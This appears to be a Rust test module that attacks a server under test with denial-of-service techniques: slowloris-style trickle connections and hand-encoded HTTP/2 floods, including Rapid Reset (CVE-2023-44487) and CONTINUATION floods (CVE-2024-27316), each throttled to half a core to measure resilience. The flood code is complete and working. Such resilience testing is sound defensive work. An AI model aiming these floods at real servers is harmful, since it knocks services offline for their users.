//! Peers that mean harm, each held to a share of a core: connections that trickle, and floods of HTTP/2 frames written
//! here byte by byte, since no client library would send them.
//!
//! Each runs on a thread of its own with blocking sockets, so that the processor time of that thread is all that it has.

use std::fs;
use std::io::{self, Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

/// Of a core.
const SHARE: f64 = 0.5;
/// Bytes between two looks at the clock; a flood writes them in one call.
const BATCH: usize = 16 * 1024;
/// How long a server may take nothing of what a flood writes before the flood tries a new connection.
const PATIENCE: Duration = Duration::from_millis(500);

/// HTTP/2's frames (RFC 9113 section 6) and the flags that are used.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Kind {
    /// 2,000 connections; half of them send a head byte by byte, half a body.
    Slow,
    /// Streams that are taken back in the same breath (CVE-2023-44487).
    RapidReset,
    /// Streams that are taken back when they are being worked on.
    LateReset,
    /// DATA frames without data, on one stream that never ends.
    EmptyData,
    /// A head that goes on and on (CVE-2024-27316).
    Continuation,
    Ping,
    Settings,
    WindowUpdate,
}

impl Kind {
    pub(crate) const ALL: [Self; 8] = [
        Self::Slow,
        Self::RapidReset,
        Self::LateReset,
        Self::EmptyData,
        Self::Continuation,
        Self::Ping,
        Self::Settings,
        Self::WindowUpdate,
    ];
}

/// What an attack has done.
#[derive(Debug, Default, Clone, Copy)]
pub(crate) struct Done {
    pub(crate) connections: u64,
    /// Of those, the ones that the server ended.
    pub(crate) ended: u64,
    /// Frames or, of slow connections, bytes.
    pub(crate) sent: u64,
    /// Processor time used, of a core.
    pub(crate) share: f64,
}

/// An attack that goes on until it is stopped.
#[derive(Debug)]
pub(crate) struct Attack {
    stop: Arc<AtomicBool>,
    thread: JoinHandle<Done>,
}

impl Attack {
    pub(crate) fn start(kind: Kind, address: SocketAddr) -> Self {
        let stop = Arc::new(AtomicBool::new(false));
        let stopped = Arc::clone(&stop);
        let thread = thread::spawn(move || {
            let mut attacker = Attacker { address, stop: stopped, began: Instant::now(), done: Done::default() };
            match kind {
                Kind::Slow => attacker.trickle(),
                Kind::LateReset => attacker.reset_late(),
                _ => attacker.flood(kind),
            }
            attacker.done.share = processor_seconds() / attacker.began.elapsed().as_secs_f64();
            attacker.done
        });
        Self { stop, thread }
    }

    pub(crate) fn stop(self) -> Done {
        self.stop.store(true, Ordering::Relaxed);
        self.thread.join().expect("an attacker does not panic")
    }
}

struct Attacker {
    address: SocketAddr,
    stop: Arc<AtomicBool>,
    began: Instant,
    done: Done,
}

impl Attacker {
    /// Whether to go on; waits where more than its share of a core was used.
    #[allow(clippy::disallowed_methods, reason = "an attacker is held back by the clock")]
    fn goes_on(&self) -> bool {
        let due = Duration::from_secs_f64(processor_seconds() / SHARE);
        let elapsed = self.began.elapsed();
        if due > elapsed {
            thread::sleep(due.saturating_sub(elapsed));
        }
        !self.stop.load(Ordering::Relaxed)
    }

    fn connect(&mut self) -> io::Result<TcpStream> {
        let stream = TcpStream::connect_timeout(&self.address, PATIENCE)?;
        stream.set_write_timeout(Some(PATIENCE))?;
        self.done.connections += 1;
        Ok(stream)
    }

    #[allow(clippy::disallowed_methods, reason = "a trickle goes by the clock")]
    fn trickle(&mut self) {
        const CONNECTIONS: usize = 2_000;
        let mut streams: Vec<Option<TcpStream>> = (0..CONNECTIONS).map(|_| None).collect();
        while self.goes_on() {
            for (number, slot) in streams.iter_mut().enumerate() {
                if number % 64 == 0 && !self.goes_on() {
                    return;
                }
                let written = match slot {
                    Some(stream) => stream.write_all(b"a"),
                    None => self.connect().and_then(|mut stream| {
                        let head = "POST /hooks/shop HTTP/1.1\r\nhost: a\r\n";
                        let rest = if number % 2 == 0 { "x-slow: " } else { "content-length: 100000\r\n\r\n" };
                        stream.write_all([head, rest].concat().as_bytes())?;
                        *slot = Some(stream);
                        Ok(())
                    }),
                };
                match written {
                    Ok(()) => self.done.sent += 1,
                    Err(_) if slot.is_some() => {
                        *slot = None;
                        self.done.ended += 1;
                    }
                    Err(_) => {}
                }
            }
            thread::sleep(Duration::from_millis(100));
        }
    }

    /// The same frames over and over, as fast as the server takes them, and a new connection where it takes no more.
    fn flood(&mut self, kind: Kind) {
        while self.goes_on() {
            let Ok(mut stream) = self.connect() else { continue };
            let mut frames = Frames::begin(kind);
            while self.goes_on() {
                let (bytes, count) = frames.batch();
                if stream.write_all(&bytes).is_err() {
                    self.done.ended += 1;
                    break;
                }
                self.done.sent += count;
                drain(&mut stream);
            }
        }
    }

    #[allow(clippy::disallowed_methods, reason = "the server is given the time to begin")]
    fn reset_late(&mut self) {
        const STREAMS: u32 = 90;
        while self.goes_on() {
            let Ok(mut stream) = self.connect() else { continue };
            let mut next = 1;
            let mut opening = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
            while self.goes_on() {
                let streams = (0..STREAMS).map(|number| next + 2 * number);
                for stream in streams.clone() {
                    opening.extend(frame(HEADERS, END_HEADERS, stream, &head()));
                }
                let taken_back: Vec<u8> =
                    streams.flat_map(|stream| frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])).collect();
                next += 2 * STREAMS;
                let written = stream.write_all(&opening).and_then(|()| {
                    thread::sleep(Duration::from_millis(5));
                    stream.write_all(&taken_back)
                });
                if written.is_err() {
                    self.done.ended += 1;
                    break;
                }
                self.done.sent += u64::from(2 * STREAMS);
                opening.clear();
                drain(&mut stream);
            }
        }
    }
}

/// Throws away what the server has said, so that it is never kept from reading by its own answers.
fn drain(stream: &mut TcpStream) {
    let mut buffer = [0; BATCH];
    if stream.set_nonblocking(true).is_ok() {
        while stream.read(&mut buffer).is_ok_and(|read| read > 0) {}
        let _ = stream.set_nonblocking(false);
    }
}

/// The frames of a flood, in batches.
struct Frames {
    kind: Kind,
    opening: Vec<u8>,
    next_stream: u32,
}

impl Frames {
    fn begin(kind: Kind) -> Self {
        let mut opening = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
        match kind {
            Kind::EmptyData => opening.extend(frame(HEADERS, END_HEADERS, 1, &head())),
            Kind::Continuation => opening.extend(frame(HEADERS, 0, 1, &head())),
            _ => {}
        }
        Self { kind, opening, next_stream: 1 }
    }

    /// Bytes, and how many frames they are.
    fn batch(&mut self) -> (Vec<u8>, u64) {
        let mut bytes = std::mem::take(&mut self.opening);
        let mut count = 0;
        while bytes.len() < BATCH {
            match self.kind {
                Kind::RapidReset => {
                    bytes.extend(frame(HEADERS, END_HEADERS, self.next_stream, &head()));
                    bytes.extend(frame(RST_STREAM, 0, self.next_stream, &[0, 0, 0, 8]));
                    self.next_stream += 2;
                    count += 1;
                }
                Kind::EmptyData => bytes.extend(frame(DATA, 0, 1, &[])),
                Kind::Continuation => bytes.extend(frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b")),
                Kind::Settings => bytes.extend(frame(SETTINGS, 0, 0, &[])),
                Kind::WindowUpdate => bytes.extend(frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])),
                Kind::Ping | Kind::Slow | Kind::LateReset => bytes.extend(frame(PING, 0, 0, b"pingpong")),
            }
            count += 1;
        }
        (bytes, count)
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, a, b, c] = u32::try_from(payload.len()).expect("a small payload").to_be_bytes();
    let mut frame = vec![a, b, c, kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// `POST /hooks/shop`, in HPACK's static table and literals (RFC 7541).
fn head() -> Vec<u8> {
    let path = b"/hooks/shop";
    let mut head = vec![0x83, 0x86, 0x04, u8::try_from(path.len()).expect("a short path")];
    head.extend(path);
    head.extend([0x01, 1, b'a']);
    head
}

/// Used by this thread so far (`/proc/thread-self/schedstat`, in nanoseconds).
fn processor_seconds() -> f64 {
    let text = fs::read_to_string("/proc/thread-self/schedstat").expect("Linux keeps the time of threads");
    let nanos = text.split_whitespace().next().and_then(|nanos| nanos.parse().ok());
    Duration::from_nanos(nanos.expect("a number of nanoseconds")).as_secs_f64()
}
